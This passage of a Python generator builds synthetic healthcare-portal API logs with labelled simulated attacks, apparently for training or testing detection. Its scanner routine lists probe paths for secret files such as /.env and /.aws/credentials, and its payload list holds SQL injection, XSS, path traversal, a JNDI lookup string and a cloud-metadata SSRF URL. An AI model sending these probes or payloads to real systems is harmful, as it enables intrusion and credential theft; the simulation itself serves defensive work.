            steps += ['pharm', 'pharm_set', 'refill', 'refill', 'me_put', 'rxs'] if kind == 'prescription-fraud' else ['me_put', 'setpw', 'docs', 'doc', 'doc', 'results', 'result', 'doc', 'bills']
            for s in steps[:max(4, n - calls)]:
                arg = {'summary': P, 'rxs': P, 'docs': P, 'results': P, 'bills': P, 'pharm_set': P}.get(s) or (self.item({'refill': 'x', 'rx': 'x', 'doc': 'd', 'result': 'r'}[s], p, r.randrange(4)) if s in ('refill', 'rx', 'doc', 'result') else None)
                self.call(d, t, s, *([arg] if arg else []), st=409 if s == 'refill' and self.p(.25) else None); t += self.ln(7, .8) * 1e3; calls += 1
            c.ip = self.route_ip('sticky'); t += self.ln(3, .9) * HOUR
        if kind == 'account-takeover' and self.p(.5):                   # the owner finds the door locked
            t += r.uniform(.2, 3) * HOUR; w = v.but(kind='patient-locked-out', ip=v.home, key=v.user, user=None, sess=None)
            for _ in range(r.randint(2, 4)): self.login(w, t, v.email, st=401); t += self.ln(15, .5) * 1e3
            self.call(w, t, 'reset'); t += self.ln(60, .5) * 1e3; self.call(w, t, 'otp'); self.call(w.but(user=v.user), t + 9e3, 'setpw')
    def a_hijack(self, n, ips, tool):
        r = self.r; v = r.choice([u for u in self.pats if u.last > self.t0 + DAY * .6] or self.pats); c = self.bot('session-hijack', tool, ips, v.platform, 'missing')
        t = max(v.last, self.t0) + r.uniform(1, 8) * MIN; self.victims.setdefault(v.user, t); c.user, c.sess, c.ver = v.user, 's' + self.hex(14), v.ver
        for e in reversed(self.ev):
            if e[2].get('user.id') == v.user and e[2].get('session.id'): c.sess = e[2]['session.id']; break
        p = v.pats[0]
        for t in self.beats(n, t, r.choice([2, 9]) * 1e3, 'exp'):
            s = r.choice(['me', 'summary', 'results', 'result', 'doc', 'rxs', 'docs', 'threads', 'refresh'])
            self.call(c, t, s, *([self.oid('p', p)] if s in ('summary', 'results', 'rxs', 'docs') else [self.item(s[0], p, r.randrange(6))] if s in ('result', 'doc') else []))
    def member_of(self, kind, tool, ips, client, att):
        """An attacker who has an account like anyone."""
        c = self.bot(kind, tool, ips, client, att, user=self.oid('u', 20000 + self.no('evil-user')), sess='s' + self.hex(14))
        if client == 'web' and self.f['web.device']: c.dev = 'w-' + self.hex(20)
        return c
    def a_bola(self, n, tool, ips, gap, client, att=None, manner='exp', what='result', cover=0.0):
        r = self.r; kind = 'bola-' + {'result': 'results', 'rx': 'prescriptions', 'doc': 'documents', 'summary': 'patients'}[what]; c = self.member_of(kind, tool, ips, client, att)
        f = {'result': 'r', 'rx': 'x', 'doc': 'd', 'summary': 'p'}[what]; i, seq, mine = r.randrange(self.npat), self.idform[f] in ('num', 'mrn') and self.p(.75), r.randrange(self.npat)
        t = self.begin(n * gap)
        if client != 'web' or cover: self.login(c, t - 8e3, self.leak()); self.call(c, t - 5e3, 'me')
        for t in self.beats(n, t, gap, manner):
            if self.p(cover): s = r.choice(['results', 'rxs', 'appts', 'summary']); self.call(c, t, s, self.oid('p', mine)); continue
            i = i + r.choice([1, 1, 1, 2, -1]) if seq else r.randrange(self.npat); x = r.random(); st = None if self.vuln and x < .82 else 403 if x < .9 and not self.vuln else 404
            self.call(c, t, what, self.oid(f, i), st=st)
    def a_bfla(self, n, tool, ips, gap, client, att=None, manner='exp'):
        r = self.r; c = self.member_of('bfla-probing', tool, ips, client, att)
        guess = ['/admin/users', '/admin', '/users', '/me/roles', '/patients/export', '/admin/audit', '/debug/config', '/internal/metrics', '/appointments/all', '/promotions', '/admin/feature-flags', '/reports', '/providers/1/schedule']
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            if self.p(.5):
                s = r.choice(['s_users', 's_audit', 's_find', 's_sched', 's_refq', 's_chart', 's_rep', 's_inbox', 's_ok'])
                self.call(c, t, s, *([self.oid('p', r.randrange(self.npat))] if s in ('s_chart', 's_ok') else ['daily-close'] if s == 's_rep' else []), st=r.choices([403, 401, 404, 200], [8, 2, 1, .5])[0])
            elif self.p(.6): self.call(c, t, None, raw=(r.choice(['GET', 'GET', 'POST']), self.prefix + r.choice(guess), 200, 900, .02), st=r.choice([403, 404, 404]))
            else:
                m, path = self.routes[r.choice(['prov', 'appt', 'rx', 'result'])][:2]
                self.call(c, t, None, raw=(r.choice(['PUT', 'DELETE', 'PATCH']), path.rsplit('/', 1)[0] + '/' + str(r.randrange(1, 9000)), 200, 300, .02), st=r.choice([403, 405, 405, 404]))
    def a_enum(self, n, tool, ips, gap, client, att=None, manner='exp'):
        r = self.r; c = self.bot('insurer-number-enumeration', tool, ips, client, att); base, hit, seq = r.randrange(10 ** 8, 9 * 10 ** 8), r.uniform(.02, .25), self.p(.6)
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            base += r.choice([1, 1, 10, 7]) if seq else r.randrange(1, 4000); self.call(c, t, 'elig', self.member(base), st=200 if self.p(hit) else r.choice([404, 404, 404, 422]))
    def a_otp(self, n, tool, ips, gap, client, att=None, manner='exp', per=99):
        r = self.r; c = self.bot('otp-brute-force', tool, ips, client, att); v, k = r.choice(self.pats), 0
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            if k % per == 0:
                if per < 20: v = r.choice(self.pats)
                self.login(c, t - 900, v.email); self.call(c, t - 400, 'otp_send')
            k += 1; self.call(c, t, 'otp', st=200 if self.p(.002) else 429 if k % per > 30 and self.p(.3) else 401)
    def a_sms(self, n, tool, ips, gap, client, att=None, manner='exp'):
        c = self.bot('sms-pumping', tool, ips, client, att)
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            if self.p(.4): self.call(c, t - 700, 'register', st=None if self.p(.7) else 422)
            self.call(c, t, 'otp_send', st=None if self.p(.9) else 429)
    def a_signup(self, n, tool, ips, gap, client, att=None, manner='exp', kind='fake-signup', farm=0):
        r = self.r; c = self.bot(kind, tool, ips, client, att); farm = [self.farm_phone(c, i) for i in range(farm)]
        for i, t in enumerate(self.beats(max(4, n // 7), self.begin(n * gap), gap * 7, manner)):
            d = farm[i % len(farm)] if farm else c if ips == 'one' else self.rotate_ua(c); d = d.but(ip=d.ip(t)); lag = lambda: self.ln(1.2 if not farm else 6, .5) * 1e3
            if farm or self.p(.4): self.call(d, t, 'config'); t += lag()
            self.call(d, t, 'register', st=409 if self.p(.05) else None); t += lag(); self.call(d, t, 'regverify', self.hex(12)); t += lag() * 4
            d = d.but(user=self.oid('u', 30000 + self.no('fake-user')), sess='s' + self.hex(14))
            for s in ['me', 'promo', 'slots', 'book'][:r.choice([2, 4, 4])]: self.call(d, t, s, st=r.choice([400, 409]) if s == 'promo' and self.p(.2) else None); t += lag()
    def farm_phone(self, c, i):
        """One handset of a farm: the genuine app on a real phone."""
        d = c.but(caller=c.caller + '-%d' % i, dev=self.uuid(), att=Att(self)); d.ua, d.ja = self.phone(c.platform, c.ver)
        if self.p(.5): d.ip = self.route_ip('carrier')
        return d
    def a_scalp(self, n, tool, ips, gap, client, att=None, manner='steady', kind='slot-scalping', farm=1):
        r = self.r; c = self.bot(kind, tool, ips, client, att); crew = [c.but(user=self.oid('u', 40000 + self.no('scalper')), sess='s' + self.hex(14)) for _ in range(farm)]
        if tool == 'phone': crew = [self.farm_phone(d, i) for i, d in enumerate(crew)]
        sp = r.sample(range(40), 2)
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            d = r.choice(crew)
            if self.p(.05): self.call(d, t - 300, 'refresh')
            self.call(d, t, 'slots', q='specialty=%d&from=2026-06-%02d' % (r.choice(sp), r.randint(15, 30)))
            if self.p(.07):
                st = self.call(d, t + r.uniform(150, 900), 'book', st=409 if self.p(.3) else None)
                if st == 201 and self.p(.5): self.call(d, t + r.uniform(5, 55) * MIN, 'cancel', self.rand_item('a'))
    def a_scrape(self, n, tool, ips, gap, client, att=None, manner='exp', kind='directory-scraping'):
        r = self.r; c = self.bot(kind, tool, ips, client, att); v, pg = r.randrange(1, 300), 0
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            d = self.rotate_ua(c) if ips == 'resi' and tool != 'go' else c
            if client is None: v += 1; self.call(d, t, 'pubprov', 'dr-%d' % v, st=404 if v > 900 else None)
            elif self.p(.75): v += 1; self.call(d, t, 'prov', v, st=404 if v > 900 and self.p(.7) else None)
            else: pg += 1; self.call(d, t, 'provs', q='specialty=%d&page=%d&limit=100' % (pg // 8 % 40, pg % 8))
    def a_flood(self, n, tool, ips, gap, client, att=None, manner='burst'):
        r = self.r; c = self.bot('search-flood', tool, ips, client, att)
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            self.call(c, t, r.choice(['provs', 'slots', 'pharm']), q='q=%s&radius=500&limit=500' % self.hex(5), st=r.choice([None, None, None, None, 503, 504, 429]))
    def a_scan(self, n, tool, ips, gap, client=None, att=None, manner='exp'):
        r = self.r; c = self.bot('scanner', tool, ips, client, att)
        if tool in ('go', 'curl') and self.p(.6):
            c.ua = r.choice(['Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Mozilla/5.0 zgrab/0.x', 'Fuzz Faster U Fool v2.1.0-dev'])
        paths = ['/.env', '/.git/config', '/actuator/env', '/actuator/health', '/swagger.json', '/v3/api-docs', '/graphql', '/server-status', '/wp-login.php', '/phpinfo.php', '/config.json', '/.aws/credentials',
                 '/api/v1/users', '/openapi.json', '/debug/pprof/', '/console', '/backup.sql', '/admin/login', '/solr/admin/info/system', '/cgi-bin/luci', '/_cat/indices', '/.DS_Store', '/owa/auth/logon.aspx',
                 '/fhir/metadata', '/fhir/Patient', '/druid/index.html', '/manager/html', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/remote/login', '/boaform/admin/formLogin']
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            p = r.choice(paths) if self.p(.75) else self.prefix + r.choice(paths)
            self.call(c, t, None, raw=(r.choices(['GET', 'HEAD', 'POST', 'OPTIONS', 'PROPFIND'], [20, 2, 2, 1, .5])[0], p, 200, 600, .004), st=r.choices([404, 403, 401, 400, 301, 200, 405], [30, 6, 3, 2, 2, .5, 1])[0])
    def a_payload(self, n, tool, ips, gap, client, att=None, manner='exp'):
        r = self.r; c = self.member_of('payload-injection', tool, ips, client, att) if self.p(.5) else self.bot('payload-injection', tool, ips, client, att)
        if self.p(.4): c.ua = 'sqlmap/1.8.4#stable (https://sqlmap.org)'
        pay = ["1%27%20OR%20%271%27=%271", "1)%20AND%20SLEEP(5)--", "%3Cscript%3Ealert(1)%3C/script%3E", "../../../../etc/passwd", "%24%7Bjndi:ldap://x.example/a%7D", "1%20UNION%20SELECT%20NULL,NULL--", "http://169.254.169.254/latest/meta-data/", "%7B%7B7*7%7D%7D"]
        tgt = r.choice(['provs', 'slots', 'pharm', 'f_patq'])
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            st = r.choices([400, 500, 200, 403, 422], [8, 3, 6, 4, 2])[0]
            if self.p(.6): self.call(c, t, tgt, q='%s=%s' % (r.choice(['q', 'specialty', 'from', 'near', 'sort', 'name']), r.choice(pay)), st=st)
            else: self.call(c, t, r.choice(['prov', 'result', 'appt']), '%d%s' % (r.randrange(900), r.choice(pay[:3] + pay[5:6]).replace('/', '%2F')), st=st if c.user or st != 200 else 401)
    def a_leaked(self, n, ips, gap, manner='exp', same_tool=False, what='read'):
        r = self.r; k = r.choice(list(self.keys.values())); c = self.bot('leaked-partner-key', r.choice(['python', 'curl', 'go']), ips, None, api=k.api, platform='server')
        if same_tool: c.ua, c.ja = k.ua, k.ja
        i = r.randrange(self.npat); t = self.begin(n * gap)
        for s in ('f_meta', 'f_token'):
            if self.p(.6): self.call(c, t - r.uniform(20, 90) * 1e3, s)
        for t in self.beats(n, t, gap, manner):
            if what == 'read':
                i += 1 if self.p(.8) else r.randrange(1, 50); s = r.choice(['f_pat', 'f_pat', 'f_every', 'f_med', 'f_obsq'])
                self.call(c, t, s, *([self.oid('p', i)] if s in ('f_pat', 'f_every') else []), q='patient=' + self.oid('p', i) if s in ('f_med', 'f_obsq') else None, st=403 if self.p(.12) else 404 if self.p(.06) else None)
            else: self.call(c, t, r.choice(['f_patq', 'f_drq', 'f_doc']), q='_count=500&_page=%d' % r.randrange(50), st=403 if self.p(.2) else None)
    def a_bulk(self, n, gap, manner='exp', every=True):
        """A partner's own server, taken over: its key, its address, its tool, another appetite."""
        r = self.r; k = r.choice(list(self.keys.values())); inst = 'fhir-bulk-export-%d' % self.no('fhir-bulk-export'); c = k.but(kind='fhir-bulk-export', attack=True, instance=inst)
        t = self.begin(n * gap)
        if not every:
            j = self.hex(10); self.call(c, t, 'f_export', st=202)
            for _ in range(max(2, n // 4)): t += 30e3; self.call(c, t, 'f_job', j)
            for i in range(n * 2 // 3): t += gap * r.uniform(.5, 1.5); self.call(c, t, 'f_file', j, i)
            return
        i = r.randrange(self.npat)
        for t in self.beats(n, t, gap, manner): i += 1; self.call(c, t, 'f_every' if self.p(.7) else 'f_bin', self.oid('p', i) if self.p(.99) else self.hex(8), st=403 if self.p(.05) else None)
    def a_repack(self, n, ips, gap, att_code, manner='exp', crew=6):
        """A modified app that circulates: it looks for slots by itself and lifts the limits; its users are real phones."""
        r = self.r; c = self.bot('repackaged-app', 'phone', ips, 'android', 'failed'); devs = []
        for i in range(crew):
            d = c.but(dev=self.uuid(), att=Att(self, 'failed', code=att_code), user=self.oid('u', 50000 + self.no('mod-user')), sess='s' + self.hex(14), ip=self.route_ip(ips), caller='%s-%d' % (c.caller, i))
            d.ua, d.ja = self.phone('android', c.ver); devs.append(d)
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            d = r.choice(devs); s = r.choices(['slots', 'book', 'me', 'notif', 'appts', 'provs', 'promo'], [12, 1, 1, 2, 1, 1, .5])[0]
            self.call(d, t, s, *([self.oid('p', r.randrange(self.npat))] if s == 'appts' else []), st=409 if s == 'book' and self.p(.4) else None)
    def a_replay(self, n, ips, gap, renew, oneshot=0.0, what='login', manner='exp'):
        r = self.r; c = self.bot('attestation-replay', 'clone', ips, r.choice(['android', 'android', 'ios']), Stolen(self, renew, oneshot))
        if what != 'login': c.user, c.sess = self.oid('u', 60000 + self.no('replay-user')), 's' + self.hex(14)
        i = 0
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            i += 1
            if what == 'login': self.login(self.rotate_ua(c) if c.platform == 'android' else c, t, self.leak() if self.p(.85) else r.choice(self.pats).email, st=401 if not self.p(.005) else None)
            elif what == 'elig': self.call(c, t, 'elig', self.member(), st=200 if self.p(.08) else 404)
            else: self.call(c, t, 'slots', q='specialty=%d' % (i % 40)) if self.p(.7) else self.call(c, t, 'prov', i)
    def a_insider(self, n, gap, after=False, export=False):
        """Staff who look up people they do not treat, in their own session, from their own desk."""
        r = self.r; kind = 'insider-snooping'; inst = '%s-%d' % (kind, self.no(kind))
        late = [s for s in self.shifts if s[1] > self.t0 + (0 if self.p(.2) else .8 * DAY) and s[2] < self.t1 and s[0].role not in ('records', 'research')]; c, a, b = r.choice(late or self.shifts)
        c = c.but(attack=True, kind=kind, instance=inst); t = b + r.uniform(5, 50) * MIN if after else r.uniform(a + HOUR, max(a + 2 * HOUR, b - n * gap))
        for t in self.beats(n, t, gap, 'exp'):
            P = self.oid('p', r.randrange(self.npat))
            if self.p(.3): self.call(c, t - 4e3, 's_find', q='name=' + r.choice('klmnopqrs'))
            self.call(c, t, 's_chart', P)
            if self.p(.5): self.call(c, t + self.ln(9, .5) * 1e3, r.choice(['s_res', 's_rx']), P)
            if export and self.p(.25): self.call(c, t + 12e3, 's_doc', self.rand_item('d'))
    def a_staff_ato(self, n, ips, gap, manner='human'):
        r = self.r; s = r.choice(self.staff); c = self.bot('staff-account-takeover', 'headless', ips, 'staff', user=s.user, sess='s' + self.hex(14)); c.platform = 'web'
        self.victims.setdefault(s.user, None); t = self.begin(n * gap); self.victims[s.user] = t; self.login(c, t - 9e3, s.user, name='s_login')
        for t in self.beats(n, t, gap, manner):
            x = r.choice(['s_find', 's_chart', 's_chart', 's_chart', 's_rx', 's_inbox', 's_refq', 's_rep', 's_ok'])
            self.call(c, t, x, *([self.oid('p', r.randrange(self.npat))] if x in ('s_chart', 's_rx', 's_ok') else ['patients'] if x == 's_rep' else []), st=403 if x == 's_rep' and self.p(.5) else None)
    def a_poison(self, n, ips, tool, client, what='prov', att=None):
        """Starts like anyone on the first day and grows by little steps, so that its own past excuses it."""
        r = self.r; c = self.member_of('baseline-poisoning', tool, ips, client, att); t, span = self.t0 + r.uniform(1, 8) * HOUR, self.t1 - self.t0
        grow, i, mine = r.uniform(6, 25), r.randrange(self.npat), r.randrange(self.npat); mean = span / n; k = 0
        while t < self.t1 and k < n * 1.3:
            k += 1; x = (t - self.t0) / span; t += r.expovariate(1 / (mean * (grow - 1) / math.log(grow) * grow ** -x))
            if not 6 < self.hour(t) < 24 and self.p(.5): t += 2 * HOUR
            if self.p(max(.05, .8 - x)): s = r.choice(['results', 'summary', 'appts', 'slots', 'notif']); self.call(c, t, s, *([self.oid('p', mine)] if s in ('results', 'summary', 'appts') else []))
            elif what == 'prov': i += 1; self.call(c, t, 'prov', i % 900 + 1)
            else: i += 1; self.call(c, t, 'result', self.oid('r', i), st=None if self.vuln else 403)
    def attacks(self, target):
        r = self.r; S, M = 1e3, 60e3; pick = lambda a, b: r.uniform(a, b)
        menu = {
            'stuffing': [(self.a_stuffing, 500, dict(tool='openbullet', ips='one', gap=pick(.3, 2) * S, client='web')), (self.a_stuffing, 420, dict(tool='openbullet', ips='resi', gap=pick(2, 20) * S, client='web')),
                         (self.a_stuffing, 300, dict(tool='clone', ips='resi', gap=pick(5, 60) * S, client='android', att='missing')), (self.a_stuffing, 260, dict(tool='clone', ips='few', gap=pick(2, 15) * S, client='android', att='failed')),
                         (self.a_stuffing, 160, dict(tool='headless', ips='resi', gap=pick(3, 9) * M, client='web')), (self.a_stuffing, 200, dict(tool='python', ips='vpn', gap=pick(1, 6) * S, client='ios', att='missing', manner='burst'))],
            'spray': [(self.a_spray, 220, dict(tool='go', ips='resi', gap=pick(15, 120) * S, client='web')), (self.a_spray, 140, dict(tool='headless', ips='sticky', gap=pick(3, 9) * M, client='web')),
                      (self.a_spray, 120, dict(tool='python', ips='few', gap=pick(10, 60) * S, client='staff', staff=True)), (self.a_spray, 60, dict(tool='openbullet', ips='resi', gap=pick(8, 20) * M, client='staff', staff=True))],
            'takeover': [(self.a_takeover, 30, {}), (self.a_takeover, 22, {}), (self.a_takeover, 45, {})],
            'hijack': [(self.a_hijack, 40, dict(ips='one', tool='python')), (self.a_hijack, 30, dict(ips='sticky', tool='headless'))],
            'bola': [(self.a_bola, 320, dict(tool='python', ips='one', gap=pick(.4, 2) * S, client='web', what='result')), (self.a_bola, 180, dict(tool='headless', ips='home', gap=pick(20, 90) * S, client='web', what='rx', cover=.2)),
                     (self.a_bola, 160, dict(tool='phone', ips='carrier', gap=pick(8, 60) * S, client='android', att='genuine', what='doc', cover=.3)), (self.a_bola, 120, dict(tool='clone', ips='sticky', gap=pick(2, 6) * M, client='android', att='missing', what='summary')),
                     (self.a_bola, 140, dict(tool='go', ips='resi', gap=pick(5, 30) * S, client='web', what='rx')), (self.a_bola, 70, dict(tool='phone', ips='home', gap=pick(4, 12) * M, client='ios', att='genuine', what='result', cover=.5, manner='human'))],
            'bfla': [(self.a_bfla, 110, dict(tool='python', ips='vpn', gap=pick(1, 5) * S, client='web')), (self.a_bfla, 50, dict(tool='headless', ips='home', gap=pick(1, 5) * M, client='web', manner='human')), (self.a_bfla, 60, dict(tool='clone', ips='sticky', gap=pick(10, 40) * S, client='android', att='missing'))],
            'enum': [(self.a_enum, 320, dict(tool='python', ips='few', gap=pick(.5, 3) * S, client='web')), (self.a_enum, 220, dict(tool='openbullet', ips='resi', gap=pick(10, 60) * S, client='web')), (self.a_enum, 120, dict(tool='clone', ips='sticky', gap=pick(2, 6) * M, client='android', att='failed'))],
            'otp': [(self.a_otp, 200, dict(tool='python', ips='one', gap=pick(.4, 2) * S, client='web')), (self.a_otp, 150, dict(tool='openbullet', ips='resi', gap=pick(10, 60) * S, client='web', per=3)), (self.a_otp, 80, dict(tool='clone', ips='sticky', gap=pick(60, 240) * S, client='android', att='missing', per=4))],
            'sms': [(self.a_sms, 160, dict(tool='python', ips='resi', gap=pick(4, 30) * S, client='web')), (self.a_sms, 90, dict(tool='node', ips='few', gap=pick(30, 120) * S, client='web'))],
            'signup': [(self.a_signup, 220, dict(tool='openbullet', ips='resi', gap=pick(3, 15) * S, client='web')), (self.a_signup, 140, dict(tool='clone', ips='one', gap=pick(1, 6) * S, client='android', att='failed')), (self.a_signup, 90, dict(tool='headless', ips='sticky', gap=pick(1, 3) * M, client='web'))],
            'farm': [(self.a_signup, 220, dict(tool='phone', ips='carrier', gap=pick(6, 40) * S, client='android', att='genuine', kind='device-farm-signup', farm=r.randint(8, 30))), (self.a_scalp, 320, dict(tool='phone', ips='home', gap=pick(4, 25) * S, client='android', att='genuine', kind='device-farm-scalping', farm=r.randint(6, 24))),
                     (self.a_scalp, 140, dict(tool='phone', ips='carrier', gap=pick(1, 3) * M, client='ios', att='genuine', kind='device-farm-scalping', farm=r.randint(4, 12)))],
            'scalp': [(self.a_scalp, 360, dict(tool='node', ips='one', gap=pick(2, 8) * S, client='web')), (self.a_scalp, 260, dict(tool='headless', ips='sticky', gap=pick(15, 60) * S, client='web', farm=4)), (self.a_scalp, 240, dict(tool='clone', ips='resi', gap=pick(8, 40) * S, client='android', att='missing', farm=6, manner='exp'))],
            'scrape': [(self.a_scrape, 420, dict(tool='python', ips='one', gap=pick(.5, 3) * S, client='web')), (self.a_scrape, 420, dict(tool='openbullet', ips='resi', gap=pick(5, 50) * S, client='web')), (self.a_scrape, 200, dict(tool='go', ips='few', gap=pick(1, 4) * M, client=None)),
                       (self.a_scrape, 220, dict(tool='clone', ips='resi', gap=pick(20, 90) * S, client='android', att='missing'))],
            'flood': [(self.a_flood, 260, dict(tool='go', ips='few', gap=pick(.1, .8) * S, client='web')), (self.a_flood, 160, dict(tool='node', ips='resi', gap=pick(1, 8) * S, client='web'))],
            'scan': [(self.a_scan, 300, dict(tool='go', ips='one', gap=pick(.1, 1) * S)), (self.a_scan, 70, dict(tool='curl', ips='few', gap=pick(3, 12) * M)), (self.a_scan, 60, dict(tool='python', ips='resi', gap=pick(4, 20) * M)), (self.a_scan, 160, dict(tool='headless', ips='vpn', gap=pick(2, 10) * S, client='web'))],
            'payload': [(self.a_payload, 160, dict(tool='python', ips='one', gap=pick(.5, 3) * S, client='web')), (self.a_payload, 60, dict(tool='headless', ips='vpn', gap=pick(30, 150) * S, client='web', manner='human'))],
            'leaked': [(self.a_leaked, 260, dict(ips='one', gap=pick(.5, 4) * S)), (self.a_leaked, 110, dict(ips='vpn', gap=pick(1, 5) * M, same_tool=True)), (self.a_leaked, 140, dict(ips='few', gap=pick(5, 40) * S, what='query'))],
            'bulk': [(self.a_bulk, 220, dict(gap=pick(1, 6) * S)), (self.a_bulk, 70, dict(gap=pick(3, 9) * S, every=False)), (self.a_bulk, 120, dict(gap=pick(1, 4) * M))],
            'repack': [(self.a_repack, 260, dict(ips='carrier', gap=pick(5, 40) * S, att_code='invalid_signature', crew=r.randint(4, 14))), (self.a_repack, 120, dict(ips='home', gap=pick(1, 4) * M, att_code='invalid_signature', crew=3)), (self.a_repack, 160, dict(ips='sticky', gap=pick(4, 15) * S, att_code='wrong_audience', crew=2, manner='burst'))],
            'replay': [(self.a_replay, 240, dict(ips='resi', gap=pick(1, 6) * S, renew=self.tok_life * .9e3)), (self.a_replay, 160, dict(ips='few', gap=pick(4, 20) * S, renew=40 * M, what='slots')), (self.a_replay, 120, dict(ips='sticky', gap=pick(30, 120) * S, renew=self.tok_life * .8e3, oneshot=r.choice([0, .4, .9]), what='elig'))],
            'insider': [(self.a_insider, 12, dict(gap=pick(60, 240) * S)), (self.a_insider, 45, dict(gap=pick(15, 50) * S, after=True, export=True)), (self.a_insider, 24, dict(gap=pick(2, 6) * M))],
            'staffato': [(self.a_staff_ato, 60, dict(ips='vpn', gap=pick(10, 60) * S)), (self.a_staff_ato, 40, dict(ips='sticky', gap=pick(1, 4) * M))],
            'poison': [(self.a_poison, 260, dict(ips='home', tool='headless', client='web')), (self.a_poison, 200, dict(ips='carrier', tool='phone', client='android', att='genuine', what='result')), (self.a_poison, 160, dict(ips='sticky', tool='clone', client='android', att='missing'))],
        }
        self.ato_left = r.randint(2, 4); plan = []
        for k, styles in menu.items():
            if self.p(.1) and k not in ('stuffing', 'bola'): continue
            for f, n, kw in r.sample(styles, min(len(styles), r.choice([2, 2, 3]))):
                if 'manner' in f.__code__.co_varnames[:f.__code__.co_argcount]: kw.setdefault('manner', r.choice(['exp', 'exp', 'steady', 'burst']))
                plan.append((f, self.ln(n, .65), kw))
        scale = target / sum(n for _, n, _ in plan); r.shuffle(plan)
        for f, n, kw in plan: self.burst = r.randint(5, 20); f(max(9, min(950, int(n * (scale if n > 40 else scale ** .4)))), **kw)
    def run(self):
        r = self.r; part = [r.uniform(.75, 1.25) * x for x in (50, 16, 7, 19, 8)]; good = self.total * (1 - self.evil); pat, stf, tab, par, odd = [good * x / sum(part) for x in part]; self.people()
        self.staff_life(stf, tab); self.patient_life(pat); self.partners(par); self.oddities(odd)
        if len(self.ev) > 90000:                                        # keep within the size asked for: some patients stay at home
            gone = set(r.sample([u.caller for u in self.pats], int(len(self.pats) * min(.6, 1.9 * (1 - 90000 / len(self.ev)))))); self.ev = [e for e in self.ev if e[3]['caller'] not in gone]
        self.attacks(len(self.ev) * self.evil / (1 - self.evil)); self.ev.sort(key=lambda x: (x[0], x[1]))
    def write(self, out):
        os.makedirs(out, exist_ok=True)
        with open(os.path.join(out, 'events.ndjson'), 'w') as fe, open(os.path.join(out, 'labels.ndjson'), 'w') as fl:
            for t, _, e, lab, key in self.ev:
                if lab['label'] == 'benign':
                    who = key or e.get('user.id')
                    if who in self.victims and t >= self.victims[who]: lab['victim'] = True
                fe.write(json.dumps(e, separators=(',', ':')) + '\n'); fl.write(json.dumps(lab, separators=(',', ':')) + '\n')


if __name__ == '__main__': world = World(sys.argv[1]); world.run(); world.write(sys.argv[2])
